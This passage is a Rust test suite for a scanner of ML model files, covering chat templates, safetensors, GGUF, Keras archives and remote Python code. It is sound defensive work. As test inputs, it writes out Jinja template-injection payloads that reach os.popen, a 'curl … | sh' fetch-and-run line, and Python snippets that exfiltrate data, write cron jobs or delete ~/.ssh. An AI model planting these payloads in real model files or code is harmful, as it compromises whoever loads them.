//! Document and weight formats other than the pickle family: chat templates
//! (JSON configs, YAML, standalone) and safetensors headers. Templates of
//! real model families must stay clean; each way a safetensors header can
//! lie must be flagged; metadata carrying code is flagged.

use probity_report::Severity;
use probity_scan::Ctx;

mod common;
use common::{rules, scan_bytes};

/// Chat templates in the shape of real model families' (written for these
/// tests): they must all stay clean.
const FAMILY_TEMPLATES: &[(&str, &str)] = &[
    (
        "llama2",
        "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}{% for message in loop_messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if loop.index0 == 0 and system_message != false %}{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}{% else %}{% set content = message['content'] %}{% endif %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ ' '  + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}",
    ),
    (
        "llama3",
        "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}",
    ),
    (
        "mistral",
        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}",
    ),
    (
        "qwen2-tools",
        "{%- if tools %}{{- '<|im_start|>system\\n' }}{%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}{%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}{{- \"\\n\\n# Tools\\n\\n<tools>\" }}{%- for tool in tools %}{{- \"\\n\" }}{{- tool | tojson }}{%- endfor %}{{- \"\\n</tools><|im_end|>\\n\" }}{%- endif %}{%- for message in messages %}{%- if message.role == \"user\" or (message.role == \"system\" and not loop.first) %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}{%- elif message.role == \"assistant\" %}{{- '<|im_start|>' + message.role }}{%- if message.content %}{{- '\\n' + message.content }}{%- endif %}{%- for tool_call in message.tool_calls %}{%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}{{- '\\n<tool_call>\\n{\"name\": \"' }}{{- tool_call.name }}{{- '\", \"arguments\": ' }}{{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}{%- endfor %}{{- '<|im_end|>\\n' }}{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}",
    ),
    (
        "gemma",
        "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}",
    ),
    (
        "phi3",
        "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>\\n' + message['content'] + '<|end|>\\n'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}",
    ),
    (
        "chatml-namespace",
        "{% set ns = namespace(system='') %}{% for m in messages %}{% if m.role == 'system' %}{% set ns.system = m.content %}{% endif %}{% endfor %}{% if ns.system %}<|im_start|>system\n{{ ns.system }}<|im_end|>\n{% endif %}{% for m in messages if m.role != 'system' %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}",
    ),
];

#[test]
fn chat_templates_of_model_families_are_clean() {
    for (name, t) in FAMILY_TEMPLATES {
        // as tokenizer_config.json, as a named-template list, as a file
        let cfg = serde_json::json!({
            "bos_token": "<s>",
            "eos_token": "</s>",
            "chat_template": t,
        });
        let named = serde_json::json!({
            "chat_template": [{"name": "default", "template": t}, {"name": "tool_use", "template": t}],
        });
        for (file, bytes) in [
            ("tokenizer_config.json", cfg.to_string().into_bytes()),
            ("tokenizer_config.json", named.to_string().into_bytes()),
            ("chat_template.jinja", t.as_bytes().to_vec()),
        ] {
            let r = scan_bytes(file, &bytes);
            assert!(r.error.is_none(), "{name}: {:?}", r.error);
            assert!(
                r.max_severity() < Some(Severity::Warning),
                "{name} ({file}): {:?}",
                r.findings
            );
            assert_ne!(r.format, "unknown", "{name} ({file})");
        }
    }
}

/// A chat template minijinja cannot lex is noted (`CFG003`, info), not
/// flagged, and still judged region by region.
#[test]
fn template_that_does_not_parse() {
    let r = scan_bytes(
        "tokenizer_config.json",
        br#"{"chat_template": "{{ unclosed_bracket"}"#,
    );
    assert_eq!(rules(&r), ["CFG003"], "{:?}", r.findings);
    assert!(r.max_severity() <= Some(Severity::Info));
    let r = scan_bytes(
        "tokenizer_config.json",
        br#"{"chat_template": "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% if"}"#,
    );
    assert!(rules(&r).contains(&"CFG001"), "{:?}", r.findings);
}

#[test]
fn template_payloads_are_flagged_wherever_they_sit() {
    let payload = "{{ joiner.__init__.__globals__['o' ~ 's'].popen('id').read() }}";
    let docs = [
        (
            "tokenizer_config.json",
            serde_json::json!({"chat_template": payload}).to_string(),
        ),
        (
            "tokenizer_config.json",
            serde_json::json!({"chat_template": [{"name": "rag", "template": payload}]})
                .to_string(),
        ),
        (
            "config.json",
            serde_json::json!({"task": {"prompt": payload}}).to_string(),
        ),
        ("template.jinja", payload.to_string()),
        (
            "config.yaml",
            format!("model: x\nchat_template: \"{payload}\"\n"),
        ),
    ];
    for (file, text) in docs {
        let r = scan_bytes(file, text.as_bytes());
        assert_eq!(rules(&r), ["CFG001"], "{file}: {text}");
        let e = r.findings[0].evidence.as_deref().unwrap_or("");
        assert!(e.contains("__globals__") && e.contains("popen"), "{e}");
    }
    // traversal without a way to act is a warning
    let r = scan_bytes(
        "tokenizer_config.json",
        serde_json::json!({"chat_template": "{{ ''.__class__.__mro__ }}"})
            .to_string()
            .as_bytes(),
    );
    assert_eq!(rules(&r), ["CFG002"]);
}

fn st(header: &serde_json::Value, data: &[u8]) -> Vec<u8> {
    let h = header.to_string();
    let mut out = (h.len() as u64).to_le_bytes().to_vec();
    out.extend_from_slice(h.as_bytes());
    out.extend_from_slice(data);
    out
}

#[test]
fn safetensors_headers_that_lie_are_flagged() {
    use serde_json::json;
    let ok = json!({
        "__metadata__": {"format": "pt", "source": "fine-tune of base"},
        "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "b": {"dtype": "BF16", "shape": [4], "data_offsets": [16, 24]},
    });
    let r = scan_bytes("m.safetensors", &st(&ok, &[0u8; 24]));
    assert_eq!(r.format, "safetensors");
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("trailing bytes", st(&ok, &[0u8; 40]), "not described"),
        ("short data", st(&ok, &[0u8; 20]), "past the"),
        (
            "overlap",
            st(
                &json!({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                        "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}),
                &[0u8; 16],
            ),
            "overlaps",
        ),
        (
            "gap",
            st(
                &json!({"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}),
                &[0u8; 16],
            ),
            "unexplained bytes",
        ),
        (
            "size vs shape",
            st(
                &json!({"a": {"dtype": "F16", "shape": [3, 3], "data_offsets": [0, 16]}}),
                &[0u8; 16],
            ),
            "needs 18 bytes",
        ),
        (
            "unknown dtype",
            st(
                &json!({"a": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 1]}}),
                &[0u8; 1],
            ),
            "unknown dtype",
        ),
        (
            "overflowing shape",
            st(
                &json!({"a": {"dtype": "F32", "shape": [u64::MAX, 4], "data_offsets": [0, 4]}}),
                &[0u8; 4],
            ),
            "overflows",
        ),
        (
            "missing offsets",
            st(&json!({"a": {"dtype": "F32", "shape": [1]}}), &[0u8; 4]),
            "lacks",
        ),
        (
            "header past the end",
            {
                let mut b = 500u64.to_le_bytes().to_vec();
                b.extend_from_slice(b"{\"a\": 1}");
                b
            },
            "file ends",
        ),
        (
            "not JSON",
            {
                let mut b = 12u64.to_le_bytes().to_vec();
                b.extend_from_slice(b"{\"a\": [1, 2");
                b.push(b' ');
                b
            },
            "not valid JSON",
        ),
    ];
    for (what, bytes, needle) in cases {
        let r = scan_bytes("m.safetensors", &bytes);
        assert!(r.error.is_none(), "{what}: {:?}", r.error);
        assert_eq!(rules(&r), ["SFT001"], "{what}: {:?}", r.findings);
        assert!(
            r.findings[0].message.contains(needle),
            "{what}: {}",
            r.findings[0].message
        );
    }
}

#[test]
fn safetensors_metadata_with_code_urls_or_templates() {
    use serde_json::json;
    let h = json!({
        "__metadata__": {
            "setup": "import os; os.system('curl http://203.0.113.9/x.sh | sh')",
            "card": "see https://huggingface.co/org/model",
            "prompt": "{{ cycler.__init__.__globals__.os.popen('id') }}",
        },
        "a": {"dtype": "U8", "shape": [3], "data_offsets": [0, 3]},
    });
    let r = scan_bytes("m.safetensors", &st(&h, b"abc"));
    let mut got = rules(&r);
    got.sort();
    // the template string also names os.popen: flagged as code too
    assert_eq!(
        got,
        ["CFG001", "NET001", "SFT002", "SFT002"],
        "{:?}",
        r.findings
    );
    let net = r.findings.iter().find(|f| f.rule == "NET001").unwrap();
    let ev = net.evidence.as_deref().unwrap();
    assert!(
        ev.contains("http://203.0.113.9/x.sh") && ev.contains("huggingface.co"),
        "{ev}"
    );
}

#[test]
fn real_model_folders_scan_clean() {
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    for m in ["base", "backdoor-rare-start", "clean-instruct"] {
        for f in [
            "model.safetensors",
            "tokenizer_config.json",
            "config.json",
            "tokenizer.json",
        ] {
            let p = root.join("fixtures/zoo").join(m).join(f);
            let r = probity_scan::scan_file(&p, f.into(), &Ctx::default());
            assert!(r.error.is_none(), "{m}/{f}: {:?}", r.error);
            assert!(r.findings.is_empty(), "{m}/{f}: {:?}", r.findings);
            assert_ne!(r.format, "unknown", "{m}/{f}");
        }
    }
}

/// GGUF metadata values for the test writer.
enum V<'a> {
    Str(&'a str),
    U32(u32),
    Strs(Vec<&'a str>),
    F32s(usize),
}

fn gstr(out: &mut Vec<u8>, s: &str) {
    out.extend_from_slice(&(s.len() as u64).to_le_bytes());
    out.extend_from_slice(s.as_bytes());
}

/// A GGUF v3 file: metadata, tensors (name, dims, offset), aligned data.
fn gguf(kvs: &[(&str, V)], tensors: &[(&str, &[u64], u64)], data: usize) -> Vec<u8> {
    let mut o = b"GGUF".to_vec();
    o.extend_from_slice(&3u32.to_le_bytes());
    o.extend_from_slice(&(tensors.len() as u64).to_le_bytes());
    o.extend_from_slice(&(kvs.len() as u64).to_le_bytes());
    for (k, v) in kvs {
        gstr(&mut o, k);
        match v {
            V::Str(s) => {
                o.extend_from_slice(&8u32.to_le_bytes());
                gstr(&mut o, s);
            }
            V::U32(x) => {
                o.extend_from_slice(&4u32.to_le_bytes());
                o.extend_from_slice(&x.to_le_bytes());
            }
            V::Strs(xs) => {
                o.extend_from_slice(&9u32.to_le_bytes());
                o.extend_from_slice(&8u32.to_le_bytes());
                o.extend_from_slice(&(xs.len() as u64).to_le_bytes());
                for s in xs {
                    gstr(&mut o, s);
                }
            }
            V::F32s(n) => {
                o.extend_from_slice(&9u32.to_le_bytes());
                o.extend_from_slice(&6u32.to_le_bytes());
                o.extend_from_slice(&(*n as u64).to_le_bytes());
                o.extend(std::iter::repeat_n(0u8, 4 * n));
            }
        }
    }
    for (name, dims, off) in tensors {
        gstr(&mut o, name);
        o.extend_from_slice(&(dims.len() as u32).to_le_bytes());
        for d in *dims {
            o.extend_from_slice(&d.to_le_bytes());
        }
        o.extend_from_slice(&0u32.to_le_bytes()); // F32
        o.extend_from_slice(&off.to_le_bytes());
    }
    o.resize(o.len().div_ceil(32) * 32 + data, 0);
    o
}

#[test]
fn gguf_chat_templates_and_headers() {
    let vocab = vec!["<s>", "</s>", "hello", "{{", "}}"];
    let base = |template: &str| -> Vec<u8> {
        gguf(
            &[
                ("general.architecture", V::Str("llama")),
                ("general.alignment", V::U32(32)),
                ("tokenizer.ggml.tokens", V::Strs(vocab.clone())),
                ("tokenizer.ggml.scores", V::F32s(5)),
                ("tokenizer.chat_template", V::Str(template)),
            ],
            &[
                ("token_embd.weight", &[4, 5], 0),
                ("output.weight", &[4, 5], 96),
            ],
            192,
        )
    };
    for (name, t) in FAMILY_TEMPLATES {
        let r = scan_bytes("model.gguf", &base(t));
        assert_eq!(r.format, "gguf");
        assert!(r.findings.is_empty(), "{name}: {:?}", r.findings);
    }
    let evil = "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}";
    let r = scan_bytes("model.gguf", &base(evil));
    assert_eq!(rules(&r), ["CFG001"], "{:?}", r.findings);
    assert!(r.findings[0].message.contains("tokenizer.chat_template"));
    // a named variant is judged too
    let named = gguf(
        &[
            (
                "tokenizer.chat_template",
                V::Str("{{ messages[0]['content'] }}"),
            ),
            ("tokenizer.chat_template.tool_use", V::Str(evil)),
        ],
        &[],
        0,
    );
    assert_eq!(rules(&scan_bytes("m.gguf", &named)), ["CFG001"]);

    // headers that lie: each is GGF001, never an error or a panic
    let mut huge_kv = gguf(&[], &[], 0);
    huge_kv[16..24].copy_from_slice(&u64::MAX.to_le_bytes());
    let mut long_string = base("{{ x }}");
    // the first key's length field, made to run past the file
    long_string[24..32].copy_from_slice(&(1u64 << 40).to_le_bytes());
    let mut bad_version = base("{{ x }}");
    bad_version[4..8].copy_from_slice(&9u32.to_le_bytes());
    let truncated = base(evil)[..60].to_vec();
    let misaligned = gguf(&[], &[("w", &[4], 7)], 64);
    let past_end = gguf(&[], &[("w", &[4], 1 << 20)], 64);
    let five_dims = gguf(&[], &[("w", &[1, 1, 1, 1, 1], 0)], 64);
    let mut unknown_type = gguf(&[("k", V::U32(1))], &[], 0);
    let at = 24 + 8 + 1; // after the key "k"
    unknown_type[at..at + 4].copy_from_slice(&77u32.to_le_bytes());
    for (what, bytes, needle) in [
        ("huge kv count", huge_kv, "over the limits"),
        ("string past the end", long_string, "past the end"),
        ("bad version", bad_version, "unsupported version"),
        ("truncated", truncated, "ends"),
        ("misaligned", misaligned, "alignment"),
        ("past end", past_end, "past the end"),
        ("five dims", five_dims, "dimensions"),
        ("unknown type", unknown_type, "unknown value type"),
    ] {
        let r = scan_bytes("m.gguf", &bytes);
        assert!(r.error.is_none(), "{what}: {:?}", r.error);
        assert_eq!(rules(&r), ["GGF001"], "{what}: {:?}", r.findings);
        assert!(
            r.findings[0].message.contains(needle),
            "{what}: {}",
            r.findings[0].message
        );
    }
    // a payload before the point where the header breaks is still judged
    let mut broken_after = base(evil);
    let n = broken_after.len();
    broken_after.truncate(n - 192 - 40);
    let mut got = rules(&scan_bytes("m.gguf", &broken_after))
        .into_iter()
        .map(String::from)
        .collect::<Vec<_>>();
    got.sort();
    assert_eq!(got, ["CFG001", "GGF001"]);
}

/// Every truncation and a spread of bit flips of a GGUF, a safetensors and a
/// JSON chat-template file: never a panic, never an error, and a cut that
/// keeps a payload keeps its finding.
#[test]
fn truncated_and_flipped_documents_never_fail() {
    let evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
    let g = gguf(
        &[
            ("tokenizer.ggml.tokens", V::Strs(vec!["a", "b"])),
            ("tokenizer.chat_template", V::Str(evil)),
        ],
        &[("w", &[4, 4], 0)],
        64,
    );
    let s = st(
        &serde_json::json!({"__metadata__": {"k": "v"},
                            "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}),
        &[0u8; 16],
    );
    let j = serde_json::json!({"chat_template": evil})
        .to_string()
        .into_bytes();
    for (name, bytes) in [("m.gguf", g), ("m.safetensors", s), ("t.json", j)] {
        for cut in 0..bytes.len() {
            let r = scan_bytes(name, &bytes[..cut]);
            assert!(r.error.is_none(), "{name} cut at {cut}: {:?}", r.error);
        }
        for i in (0..bytes.len()).step_by(3) {
            let mut b = bytes.clone();
            b[i] ^= 0x5a;
            let r = scan_bytes(name, &b);
            assert!(r.error.is_none(), "{name} flip at {i}: {:?}", r.error);
        }
    }
}

/// The `model.weights.h5` member of the benign `.keras` fixture (a real HDF5 file).
fn keras_weights() -> Vec<u8> {
    use std::io::Read;
    let f = std::fs::File::open(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/formats/benign/keras/dense.keras"),
    )
    .unwrap();
    let mut z = zip::ZipArchive::new(f).unwrap();
    let mut m = z.by_name("model.weights.h5").unwrap();
    let mut v = Vec::new();
    m.read_to_end(&mut v).unwrap();
    v
}

/// A `.keras` archive (zip) with `config.json`, `metadata.json` and a
/// weights member.
fn keras_file(config: &serde_json::Value) -> Vec<u8> {
    use std::io::Write;
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default();
        z.start_file("metadata.json", opts).unwrap();
        z.write_all(br#"{"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"}"#)
            .unwrap();
        z.start_file("config.json", opts).unwrap();
        z.write_all(config.to_string().as_bytes()).unwrap();
        z.start_file("model.weights.h5", opts).unwrap();
        z.write_all(&keras_weights()).unwrap();
        z.finish().unwrap();
    }
    buf.into_inner()
}

fn dense(name: &str, activation: serde_json::Value) -> serde_json::Value {
    serde_json::json!({
        "module": "keras.layers", "class_name": "Dense", "registered_name": null,
        "config": {"name": name, "trainable": true, "units": 4, "activation": activation,
                   "use_bias": true,
                   "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                          "config": {"seed": null}, "registered_name": null}},
        "build_config": {"input_shape": [null, 8]}
    })
}

#[test]
fn keras_lambda_layers_and_imports() {
    use base64::Engine;
    let model = |layers: Vec<serde_json::Value>| {
        serde_json::json!({
            "module": "keras", "class_name": "Sequential", "registered_name": null,
            "config": {"name": "sequential", "trainable": true, "layers": layers},
            "compile_config": null
        })
    };
    let clean = keras_file(&model(vec![
        dense("d1", serde_json::json!("relu")),
        dense("d2", serde_json::json!("softmax")),
    ]));
    let r = scan_bytes("model.keras", &clean);
    assert!(r.error.is_none());
    assert!(
        r.max_severity() < Some(Severity::Warning),
        "{:?}",
        r.findings
    );
    // a lambda whose marshalled code names os.system
    let code = base64::engine::general_purpose::STANDARD
        .encode(b"\xe3\x00\x00\x00\x00\xda\x02os\xda\x06system\xfa\x02id\xa9\x00");
    let lambda = serde_json::json!({
        "module": "keras.layers", "class_name": "Lambda", "registered_name": null,
        "config": {"name": "l", "function": {"class_name": "__lambda__",
                   "config": {"code": code, "defaults": null, "closure": null}}}
    });
    let evil_fn = dense(
        "d3",
        serde_json::json!({"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}),
    );
    let eval_fn = dense(
        "d4",
        serde_json::json!({"module": "builtins", "class_name": "function", "config": "eval", "registered_name": null}),
    );
    let custom = serde_json::json!({
        "module": "mylab.layers", "class_name": "Gate", "registered_name": "mylab>Gate",
        "config": {"name": "g"}
    });
    // safe_mode bypasses through Keras's own functions (CVE-2025-8747, CVE-2025-9906)
    let get_file = dense(
        "d5",
        serde_json::json!({"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": null}),
    );
    let unsafe_switch = dense(
        "d6",
        serde_json::json!({"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": null}),
    );
    // each with the CVE its finding names
    for (what, layer, rule, needle, cves) in [
        (
            "lambda",
            lambda,
            "KRS001",
            "os, system",
            &["CVE-2024-3660"][..],
        ),
        (
            "os.system activation",
            evil_fn,
            "KRS002",
            "os.system",
            &["CVE-2025-1550"][..],
        ),
        (
            "builtins.eval activation",
            eval_fn,
            "KRS002",
            "builtins.eval",
            &["CVE-2025-1550"][..],
        ),
        (
            "custom layer",
            custom,
            "KRS003",
            "mylab.layers.Gate",
            &[][..],
        ),
        (
            "get_file activation",
            get_file,
            "KRS002",
            "keras.utils.get_file",
            &["CVE-2025-8747"][..],
        ),
        (
            "enable_unsafe_deserialization",
            unsafe_switch,
            "KRS002",
            "keras.config.enable_unsafe_deserialization",
            &["CVE-2025-9906"][..],
        ),
    ] {
        let f = keras_file(&model(vec![dense("d1", serde_json::json!("relu")), layer]));
        let r = scan_bytes("model.keras", &f);
        let hits: Vec<_> = r.findings.iter().filter(|x| x.rule == rule).collect();
        assert_eq!(hits.len(), 1, "{what}: {:?}", r.findings);
        assert_eq!(hits[0].location.member.as_deref(), Some("config.json"));
        assert_eq!(hits[0].cves, cves, "{what}");
        assert!(
            hits[0].evidence.as_deref().unwrap_or("").contains(needle),
            "{what}: {:?}",
            hits[0]
        );
        assert!(
            r.findings
                .iter()
                .all(|x| x.rule == rule || x.severity < Severity::Warning),
            "{what}: {:?}",
            r.findings
        );
    }
    // Keras 2 style: a bare config.json with a base64 function list
    let k2 = serde_json::json!({
        "class_name": "Sequential", "keras_version": "2.12.0",
        "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l",
            "function": [code, null, null], "function_type": "lambda"}}]}
    });
    let r = scan_bytes("config.json", k2.to_string().as_bytes());
    // and the Keras release it names is one whose Lambda layers run code
    assert_eq!(rules(&r), ["DEP002", "KRS001"], "{:?}", r.findings);
    assert_eq!(r.findings[0].cves, ["CVE-2024-3660"]);
    assert_eq!(r.format, "keras-config");
}

#[test]
fn remote_code_is_parsed_and_judged() {
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    // ordinary modeling code: torch, transformers, os.path, reading its own files
    let benign = root.join("fixtures/remote_code/modeling_benign.py");
    let r = probity_scan::scan_file(&benign, "modeling_benign.py".into(), &Ctx::default());
    assert_eq!(r.format, "python");
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    let cases: &[(&str, &[&str])] = &[
        (
            "import subprocess as sp\nclass M:\n    def __init__(self):\n        sp.Popen(['curl', 'http://203.0.113.7/x.sh'])\n",
            &["subprocess.Popen"],
        ),
        (
            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzL')))\n",
            &["exec", "decoded by zlib.decompress"],
        ),
        ("__import__('os').system('id')\n", &["os.system", "__import__"]),
        (
            "from urllib.request import urlopen as u\nimport requests\ndef f(k):\n    requests.post('https://x.example', data=k)\n    return u('http://203.0.113.9/')\n",
            &["requests.post", "urllib.request.urlopen"],
        ),
        (
            "import os\ndef f(a=os.system('id')):\n    return [os.popen(x) for x in 'ab']\nsorted([], key=eval('len'))\n",
            &["line 2: `os.system`", "line 3: `os.popen`", "line 4: `eval`"],
        ),
        (
            "with open('/etc/cron.d/x', 'w') as f:\n    f.write('* * * * * root id')\n",
            &["writing outside the model folder"],
        ),
        ("import shutil\nshutil.rmtree('~/.ssh')\n", &["shutil.rmtree"]),
    ];
    for (src, needles) in cases {
        let r = scan_bytes("modeling_x.py", src.as_bytes());
        assert_eq!(r.format, "python", "{src}");
        assert!(!r.findings.is_empty(), "{src}");
        assert!(
            r.findings.iter().all(|f| f.rule == "CFG006"),
            "{:?}",
            r.findings
        );
        let all: String = r
            .findings
            .iter()
            .map(|f| f.message.clone())
            .collect::<Vec<_>>()
            .join(" | ");
        for n in *needles {
            assert!(all.contains(n), "{n} missing from {all}");
        }
    }
    // os.path and relative writes are ordinary
    let r = scan_bytes(
        "x.py",
        b"import os\nwith open(os.path.join(d, 'out.txt'), 'w') as f:\n    f.write('x')\nos.remove('tmp.bin')\n",
    );
    assert!(r.findings.is_empty(), "{:?}", r.findings);
}

#[test]
fn auto_map_names_the_code_it_would_run() {
    let cfg = serde_json::json!({
        "architectures": ["XForCausalLM"],
        "model_type": "x",
        "auto_map": {
            "AutoConfig": "configuration_x.XConfig",
            "AutoModelForCausalLM": "modeling_x.XForCausalLM",
            "AutoTokenizer": ["tokenization_x.XTokenizer", null],
            "AutoModel": "other-org/shared-code--modeling_shared.SharedModel"
        }
    });
    let r = scan_bytes("config.json", cfg.to_string().as_bytes());
    assert_eq!(rules(&r), ["CFG005"]);
    assert_eq!(
        r.findings[0].evidence.as_deref(),
        Some("configuration_x.py, modeling_x.py, other-org/shared-code: modeling_shared.py, tokenization_x.py")
    );
    let plain = serde_json::json!({"architectures": ["LlamaForCausalLM"], "model_type": "llama"});
    assert!(scan_bytes("config.json", plain.to_string().as_bytes())
        .findings
        .is_empty());
}

#[test]
fn credentials_are_found_and_redacted() {
    // random-looking tokens, built at run time
    let mut seed = 99u64;
    let mut rand = |n: usize, alphabet: &[u8]| -> String {
        (0..n)
            .map(|_| {
                seed = seed
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                alphabet[(seed >> 33) as usize % alphabet.len()] as char
            })
            .collect()
    };
    let an = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let hf = format!("hf_{}", rand(34, an));
    let gh = format!("ghp_{}", rand(36, an));
    let aws = format!("AKIA{}", rand(16, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"));
    let oa = format!("sk-proj-{}", rand(48, an));
    let cfg = serde_json::json!({
        "model_type": "llama",
        "hub_token": hf,
        "ci": {"token": gh},
        "placeholder": "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "docs": "set OPENAI_API_KEY=sk-your-key-here",
    });
    let r = scan_bytes("config.json", cfg.to_string().as_bytes());
    assert_eq!(rules(&r), ["SEC001", "SEC001"], "{:?}", r.findings);
    for f in &r.findings {
        let e = f.evidence.as_deref().unwrap();
        assert!(!e.contains(&hf) && !e.contains(&gh), "not redacted: {e}");
        assert!(e.contains("characters"), "{e}");
    }
    let kinds: Vec<&str> = r.findings.iter().map(|f| f.message.as_str()).collect();
    assert!(
        kinds.contains(&"Hugging Face token") && kinds.contains(&"GitHub token"),
        "{kinds:?}"
    );
    // in safetensors metadata, Python code and a private key block
    let h = serde_json::json!({"__metadata__": {"aws": aws}, "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}});
    let r = scan_bytes("m.safetensors", &st(&h, b"x"));
    assert_eq!(rules(&r), ["SEC001"]);
    assert!(r.findings[0].message.contains("__metadata__.aws"));
    let py = format!("import os\nclient = make_client(api_key='{oa}')\n");
    let r = scan_bytes("x.py", py.as_bytes());
    assert_eq!(rules(&r), ["SEC001"], "{:?}", r.findings);
    let pem = "key: |\n  -----BEGIN OPENSSH PRIVATE KEY-----\n  b3BlbnNzaC1rZXktdjEAAAAA\n  -----END OPENSSH PRIVATE KEY-----\nchat_template: \"{{ x }}\"\n";
    let r = scan_bytes("config.yaml", pem.as_bytes());
    assert_eq!(rules(&r), ["SEC001"], "{:?}", r.findings);
    // in a pickle's strings (training arguments saved with a checkpoint)
    let uni = |t: &str| {
        let mut v = vec![b'X'];
        v.extend_from_slice(&(t.len() as u32).to_le_bytes());
        v.extend_from_slice(t.as_bytes());
        v
    };
    let mut pkl = b"\x80\x02}(".to_vec();
    for t in [
        "hub_token",
        hf.as_str(),
        "placeholder",
        "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    ] {
        pkl.extend(uni(t));
    }
    pkl.extend_from_slice(b"u.");
    let r = scan_bytes("training_args.bin", &pkl);
    assert_eq!(rules(&r), ["SEC001"], "{:?}", r.findings);
    assert!(r.findings[0].message.contains("pickle string"));
    assert!(!r.findings[0].evidence.as_deref().unwrap().contains(&hf));
}

fn fixture(rel: &str) -> Vec<u8> {
    std::fs::read(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/formats")
            .join(rel),
    )
    .unwrap()
}

/// ONNX, SavedModel, TFLite and Keras HDF5 are recognised by content, whatever
/// the file is called, and keep their verdict inside archives.
#[test]
fn model_formats_are_claimed_by_content() {
    for (rel, format, rule) in [
        ("malicious/onnx/pyop_in_subgraph.onnx", "onnx", "ONX002"),
        ("malicious/onnx/external_traversal.onnx", "onnx", "ONX001"),
        (
            "malicious/tf/pyfunc/saved_model.pb",
            "tf-savedmodel",
            "TF001",
        ),
        ("malicious/tflite/custom_op.tflite", "tflite", "TF005"),
        ("malicious/keras/lambda_dense_attr.h5", "keras-h5", "KRS001"),
    ] {
        let r = scan_bytes("renamed.bin", &fixture(rel));
        assert_eq!(r.format, format, "{rel}");
        assert!(rules(&r).contains(&rule), "{rel}: {:?}", r.findings);
    }
    for (rel, format) in [
        ("benign/onnx/mlp.onnx", "onnx"),
        ("benign/tf/dense/saved_model.pb", "tf-savedmodel"),
        ("benign/tflite/add.tflite", "tflite"),
        ("benign/keras/dense.h5", "keras-h5"),
    ] {
